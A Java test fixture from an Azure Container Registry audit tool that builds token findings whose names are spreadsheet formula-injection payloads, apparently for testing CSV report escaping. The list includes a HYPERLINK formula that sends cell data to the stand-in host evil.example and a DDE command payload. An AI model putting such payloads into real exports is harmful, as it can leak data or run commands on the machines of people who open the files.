package io.acrauditor.report;

import io.acrauditor.findings.AuditResult;
import io.acrauditor.findings.Finding;
import io.acrauditor.findings.Fingerprint;
import io.acrauditor.findings.Remediation;
import io.acrauditor.findings.Severity;
import io.acrauditor.inventory.index.SubjectRef;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * {@link ReportFixtures#withHostileNames()} plus token names a spreadsheet would run as formulas,
 * and a name that needs quoting and is not ASCII.
 */
final class FormatFixtures {
  private FormatFixtures() {}

  /** Names as Azure would return them; each starts with something a spreadsheet evaluates. */
  static final List<String> FORMULA_NAMES = List.of(
      "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1,2)",
      "\tTAB=1",
      "\rCR=1");

  /** Needs quoting in CSV (comma, quote, line break) and UTF-8 to come back. */
  static final String AWKWARD_NAME = "Müller, \"the\"\nreader ✓";

  static AuditResult withFormulaNames() {
    AuditResult hostile = ReportFixtures.withHostileNames();
    List<Finding> findings = new ArrayList<>(hostile.findings());
    List<String> names = new ArrayList<>(FORMULA_NAMES);
    names.add(AWKWARD_NAME);
    for (String name : names) {
      String id = ReportFixtures.SAAS_ACR + "/tokens/" + name;
      SubjectRef subject = ReportFixtures.subject(id, name, "token", ReportFixtures.SUB_PROD);
      findings.add(new Finding("token.scope-map-write", "Token bound to an admin or write scope map", Severity.HIGH,
          subject, "Token " + name + " can push.", Map.of("scopeMap", "_repositories_push"),
          new Remediation("Bind the token to a pull-only scope map.",
              List.of("az acr token update --name " + name + " --registry contososaasacr --scope-map pull")),
          List.of(), Fingerprint.of("token.scope-map-write", "token", id)));
    }
    return new AuditResult(hostile.run(), hostile.summary(), findings, hostile.evaluationErrors(), hostile.coverage(),
        hostile.accessMatrix(), hostile.rules(), hostile.comparison());
  }
}
